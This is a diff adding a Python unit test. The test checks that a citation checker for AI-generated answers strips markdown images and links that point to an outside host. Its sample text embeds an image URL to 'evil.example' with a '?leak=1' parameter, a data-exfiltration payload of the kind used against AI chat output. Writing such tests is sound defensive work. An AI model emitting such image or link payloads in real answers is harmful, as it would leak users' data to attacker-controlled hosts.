@@ -125,6 +125,19 @@ def test_links_become_marks_and_are_not_repeated() -> None:
     assert (answer.text.count("[1]"), answer.text.count("[2]")) == (1, 1)
 
 
+def test_links_and_images_to_other_pages_are_not_passed_on() -> None:
+    text = (
+        "An octopus has three hearts. ![x](https://evil.example/?leak=1) It is"
+        " [here](https://evil.example/a), as we said."
+    )
+
+    unmarked = checked(text, HEARTS, marked=False)
+    marked = checked(f"{text} An octopus has three hearts. [1]", HEARTS)
+
+    assert "evil" not in unmarked.text
+    assert "evil" not in marked.text
+
+
 def test_an_answer_that_cites_nothing_says_so() -> None:
     assert checked("An octopus has three hearts.").notes == (
         "exa cites nothing, so this answer could not be checked.",
